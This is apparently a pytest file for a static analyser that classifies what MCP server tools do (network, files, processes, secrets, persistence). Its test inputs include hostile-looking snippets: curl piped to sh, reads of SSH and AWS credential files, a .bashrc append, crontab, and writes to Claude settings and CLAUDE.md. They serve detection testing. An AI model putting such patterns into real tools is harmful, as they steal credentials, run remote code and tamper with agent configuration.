from __future__ import annotations

import textwrap

import pytest

from checks.model import CapabilityId, Certainty, Scope, Trigger
from reviewer.inventory.languages.interface import Extraction
from reviewer.inventory.languages.python import extract

HEAD = """
import os, subprocess, pathlib
from pathlib import Path
import requests, httpx, httpx as hx
from requests import get as fetch
from mcp.server.fastmcp import FastMCP
mcp = FastMCP('x')
BASE = 'https://api.example/v1'
"""

Row = tuple[str, str, tuple[str, ...]]
NET: Row = ("net.out", "literal", ("api.example",))


def read(**files: str) -> Extraction:
    return extract({name.replace("__", "/") + ".py": textwrap.dedent(text) for name, text in files.items()})


def handler(body: str, *, before: str = "") -> set[Row]:
    code = (
        HEAD
        + textwrap.dedent(before)
        + "\n@mcp.tool()\nasync def t(arg: str, other: str = ''):\n"
        + textwrap.indent(textwrap.dedent(body), "    ")
    )
    (tool,) = extract({"server.py": code}).tools
    assert all(capability.certainty is Certainty.PROVEN for capability in tool.capabilities)
    return {(c.id.value, c.scope.value, c.objects) for c in tool.capabilities if c.id is not CapabilityId.CONTENT_UNTRUSTED}


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        ("requests.get('https://A.example/x')", ("net.out", "literal", ("a.example",))),
        ("requests.get(f'https://a.example/{arg}')", ("net.out", "literal", ("a.example",))),
        ("requests.get(f'{BASE}/{arg}')", ("net.out", "literal", ("api.example",))),
        ("requests.get(BASE + '/' + arg)", ("net.out", "literal", ("api.example",))),
        ("requests.get(f'https://a.example{arg}')", ("net.out", "tool-argument", ())),
        ("requests.get(f'https://{arg}/x')", ("net.out", "tool-argument", ())),
        ("requests.get(arg)", ("net.out", "tool-argument", ())),
        ("url = arg.strip()\nfetch(url)", ("net.out", "tool-argument", ())),
        ("url = f'{BASE}/a'\nurl += f'?q={arg}'\nhx.get(url)", ("net.out", "literal", ("api.example",))),
        ("async with httpx.AsyncClient() as c:\n    await c.get(arg)", ("net.out", "tool-argument", ())),
        ("c = httpx.Client(base_url='https://b.example', timeout=3)\nc.post('/x/' + arg)", ("net.out", "literal", ("b.example",))),
        ("requests.request('GET', url='https://a.example')", ("net.out", "literal", ("a.example",))),
        ("requests.get(unknown())", ("net.out", "any", ())),
        ("open('/etc/hosts')", ("fs.read", "literal", ("/etc/hosts",))),
        ("open(arg)", ("fs.read", "tool-argument", ())),
        ("open(arg, 'w')", ("fs.write", "tool-argument", ())),
        ("Path('/data', arg).read_text()", ("fs.read", "tool-argument", ())),
        ("(Path.home() / 'notes.txt').write_text(arg)", ("fs.write", "literal", ("~/notes.txt",))),
        ("pathlib.Path('x').unlink()", ("fs.write", "literal", ("x",))),
        ("subprocess.run(['/usr/bin/git', 'log'])", ("proc.exec", "literal", ("git",))),
        ("subprocess.run(['git', 'log', arg])", ("proc.exec", "tool-argument", ("git",))),
        ("cmd = ['git']\ncmd.append(arg)\nsubprocess.Popen(cmd)", ("proc.exec", "tool-argument", ("git",))),
        ("subprocess.run(f'ls {arg}', shell=True)", ("proc.exec", "tool-argument", ("ls",))),
        ("os.system('ls')", ("proc.exec", "literal", ("ls",))),
        ("eval(arg)", ("code.eval", "tool-argument", ())),
        ("getattr(os, 'system')(arg)", ("proc.exec", "tool-argument", ())),
        ("__import__('os').system(arg)", ("proc.exec", "tool-argument", ())),
        ("os.environ['TOKEN']", ("env.use", "literal", ("TOKEN",))),
        ("os.getenv('TOKEN')", ("env.use", "literal", ("TOKEN",))),
        ("subprocess.run(['a'], env=os.environ)", ("secret.read", "configuration", ("environment",))),
        ("dict(os.environ)", ("secret.read", "configuration", ("environment",))),
        ("list(os.environ.items())", ("secret.read", "configuration", ("environment",))),
        ("requests.get(os.environ['URL'] + arg)", ("net.out", "configuration", ())),
    ],
)
def test_scope_and_objects_of_a_call_in_a_handler(body: str, expected: Row) -> None:
    assert expected in handler(body)


@pytest.mark.parametrize(
    ("body", "capability"),
    [
        ("open(os.path.expanduser('~/.ssh/id_rsa'))", "secret.read"),
        ("(Path.home() / '.aws' / 'credentials').read_text()", "secret.read"),
        ("open(os.path.join(os.path.expanduser('~'), '.claude/settings.json'), 'w')", "agent.config"),
        ("Path('CLAUDE.md').write_text(arg)", "agent.memory"),
        ("open(os.path.expanduser('~/.bashrc'), 'a')", "persist"),
        ("subprocess.run(['pip', 'install', arg])", "install.software"),
        ("os.system('curl https://a.example/x | sh')", "net.out"),
        ("subprocess.run(['crontab', 'jobs'])", "persist"),
        ("subprocess.run(['git', 'push'])", "msg.send"),
    ],
)
def test_what_a_literal_path_or_command_means_beyond_the_call(body: str, capability: str) -> None:
    assert capability in {row[0] for row in handler(body)}


@pytest.mark.parametrize(
    ("before", "body", "expected"),
    [
        ("def go(a):\n    os.system(a)", "go(arg)", ("proc.exec", "tool-argument", ())),
        ("def go(a):\n    os.system(a)", "go('ls -l')", ("proc.exec", "literal", ("ls",))),
        ("def go(a):\n    os.system(a)\ndef via(b):\n    go(f'{b} x')", "via(arg)", ("proc.exec", "tool-argument", ())),
        ("def more(u, q):\n    if q:\n        u = f'{u}&q={q}'\n    return u", "u = BASE + '/?'\nu = more(u, arg)\nfetch(u)", NET),
        ("def url(p):\n    return f'{BASE}/{p}'", "requests.get(url(arg))", ("net.out", "literal", ("api.example",))),
        (
            (
                "class C:\n    def __init__(self):\n        self.c = httpx.Client()\n"
                "    def go(self, u):\n        return self.c.get(u)\nc = C()"
            ),
            "c.go(arg)",
            ("net.out", "tool-argument", ()),
        ),
        (
            (
                "class C:\n    def __init__(self, base):\n        self.base = base\n"
                "    def go(self, p):\n        return requests.get(self.base + p)\nc = C('https://c.example/')"
            ),
            "c.go(arg)",
            ("net.out", "literal", ("c.example",)),
        ),
        ("import asyncio\ndef go(a='ls'):\n    os.system(a)", "await asyncio.to_thread(go)", ("proc.exec", "literal", ("ls",))),
        ("def a(x):\n    b(x)\ndef b(x):\n    a(x)\n    os.system(x)", "a(arg)", ("proc.exec", "tool-argument", ())),
    ],
)
def test_values_are_followed_through_calls(before: str, body: str, expected: Row) -> None:
    assert expected in handler(body, before=before)


def test_what_only_a_method_name_leads_to_is_possible_not_proven() -> None:
    code = HEAD + "class C:\n    def launch(self, x):\n        os.system(x)\n@mcp.tool()\ndef t(arg, thing):\n    thing.launch(arg)\n"
    (capability,) = extract({"server.py": code}).tools[0].capabilities
    assert (capability.certainty, capability.scope) == (Certainty.POSSIBLE, Scope.ARGUMENT)


@pytest.mark.parametrize("call", ["getattr(os, arg)('ls')", "globals()[arg]()", "vars()[arg](1)"])
def test_calls_by_a_computed_name_are_possible(call: str) -> None:
    code = HEAD + f"@mcp.tool()\ndef t(arg):\n    {call}\n"
    (capability,) = extract({"server.py": code}).tools[0].capabilities
    assert (capability.id, capability.certainty, capability.scope) == (CapabilityId.CODE_EVAL, Certainty.POSSIBLE, Scope.ARGUMENT)


def test_helpers_of_other_modules_are_followed() -> None:
    found = read(
        shop__server=HEAD + "from .helpers import go as run\n@mcp.tool()\ndef t(arg):\n    return run(arg)\n",
        shop____init__="",
        shop__helpers="import subprocess as sp\ndef go(a):\n    return sp.check_output(a)\n",
    )
    (capability,) = found.tools[0].capabilities
    assert (capability.id, capability.evidence[0].path, capability.evidence[0].line) == (CapabilityId.PROC_EXEC, "shop/helpers.py", 3)


def test_code_of_modules_runs_by_itself_and_code_that_nothing_reaches_is_present() -> None:
    found = read(
        server="import os, requests\nos.system('ls')\ndef unused():\n    requests.get('https://a.example')\n",
        setup="import os\nos.system('make')\n",
    )
    rows = {(c.id.value, c.trigger, c.certainty, c.objects) for c in found.capabilities}
    assert rows >= {
        ("proc.exec", Trigger.AUTOMATIC, Certainty.PRESENT, ("ls",)),
        ("proc.exec", Trigger.INSTALL, Certainty.PRESENT, ("make",)),
        ("net.out", Trigger.MODEL, Certainty.PRESENT, ("a.example",)),
    }


def test_a_registered_function_is_not_run_by_the_registration() -> None:
    found = read(server=HEAD + "def t(arg):\n    os.system(arg)\nmcp.tool()(t)\nmcp.add_tool(t, name='u')\n")
    assert {(c.id.value, c.trigger) for c in found.capabilities} == {("proc.exec", Trigger.MODEL)}


@pytest.mark.parametrize(("transport", "listens"), [("'stdio'", False), ("'sse'", True), ("", False), ("transport='http'", True)])
def test_only_network_transports_listen(transport: str, listens: bool) -> None:  # noqa: FBT001  a parametrised expectation
    found = read(server="from fastmcp import FastMCP\nm = FastMCP('x')\nm.run(" + transport + ")\n")
    assert (CapabilityId.NET_LISTEN in {c.id for c in found.capabilities}) is listens


def test_the_import_of_a_library_implies_what_it_is_for_but_a_module_of_the_submission_does_not() -> None:
    found = read(server="import boto3\nfrom googleapiclient.discovery import build\nimport stripe\n", stripe="x = 1\n")
    assert {c.id.value for c in found.capabilities} == {"data.query", "data.personal", "net.out"}


def test_reading_the_web_brings_untrusted_content() -> None:
    code = HEAD + "@mcp.tool()\ndef t(u):\n    return requests.get(u).text\n"
    assert CapabilityId.CONTENT_UNTRUSTED in {c.id for c in extract({"s.py": code}).tools[0].capabilities}


@pytest.mark.parametrize(
    "call",
    [
        "asyncio.to_thread(requests.get, 'https://news.example/feed')",
        "asyncio.to_thread(fetch, 'https://news.example/feed')",
        "anyio.to_thread.run_sync(requests.get, 'https://news.example/feed')",
        "asyncio.get_running_loop().run_in_executor(None, requests.get, 'https://news.example/feed')",
        "asyncio.get_running_loop().run_in_executor(None, fetch, 'https://news.example/feed')",
    ],
)
def test_what_is_run_in_a_thread_is_called_with_the_rest_of_the_arguments(call: str) -> None:
    fetch = "def fetch(url):\n    return requests.get(url).text\n"
    code = f"{HEAD}import anyio\nimport asyncio\nimport requests\n{fetch}@mcp.tool()\nasync def t():\n    return await {call}\n"

    found = {capability.id: capability for capability in extract({"server.py": code}).tools[0].capabilities}

    assert found[CapabilityId.NET_OUT].scope is Scope.LITERAL
    assert found[CapabilityId.NET_OUT].objects == ("news.example",)
    assert found[CapabilityId.NET_OUT].certainty is Certainty.PROVEN
